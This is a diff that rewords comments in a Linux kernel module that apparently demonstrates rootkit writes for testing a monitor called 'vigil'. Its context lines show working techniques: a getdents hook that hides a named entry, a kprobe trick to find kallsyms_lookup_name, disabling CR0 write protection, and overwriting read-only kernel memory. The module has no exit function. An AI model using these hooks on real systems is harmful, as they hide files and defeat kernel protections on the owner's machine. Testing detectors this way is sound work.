@@ -46,7 +46,7 @@ static bool filter_entry(struct dir_context *ctx, const char *name, int len,
 	struct filter *f = container_of(ctx, struct filter, ctx);
 
 	if (len == strlen(hide) && !memcmp(name, hide, len))
-		return true; /* say nothing, go on */
+		return true; /* hide the entry, go on */
 	return f->real->actor(f->real, name, len, pos, ino, type);
 }
 
@@ -67,7 +67,10 @@ static long hooked_getdents(const struct pt_regs *regs)
 	return old_getdents(regs);
 }
 
-/* kallsyms_lookup_name() is not exported; a probe that is never armed finds it */
+/*
+ * kallsyms_lookup_name() is not exported. A kprobe that is registered and
+ * removed again has the address.
+ */
 static unsigned long lookup(const char *name)
 {
 	static unsigned long (*find)(const char *name);
@@ -85,11 +88,11 @@ static unsigned long lookup(const char *name)
 
 static void load_cr0(unsigned long cr0)
 {
-	/* not write_cr0(): that one puts WP back */
+	/* write_cr0() would set WP again. */
 	asm volatile("mov %0, %%cr0" : : "r"(cr0) : "memory");
 }
 
-/* a write to read-only memory, and a look at what became of it */
+/* Writes to read-only memory, then reads back what is there. */
 static void overwrite(const char *what, unsigned long *where,
 		      unsigned long value)
 {
@@ -103,7 +106,7 @@ static void overwrite(const char *what, unsigned long *where,
 	local_irq_restore(flags);
 	barrier();
 	now = READ_ONCE(*where);
-	/* shown on a console that is told to be quiet, too */
+	/* The level makes the line appear on a quiet console, too. */
 	pr_crit("%s at %px: %lx -> %lx %s\n", what, where, old, value,
 		now == value ? "replaced" :
 		now == old   ? "unchanged" :
@@ -143,7 +146,10 @@ static int __init rootkit_init(void)
 	return 0;
 }
 
-/* no exit: what was hooked may be called for ever */
+/*
+ * The module has no exit function, since the hooked functions may be called at
+ * any time.
+ */
 module_init(rootkit_init);
 MODULE_LICENSE("GPL");
 MODULE_DESCRIPTION("Demonstration of a rootkit's writes, for guests of vigil");
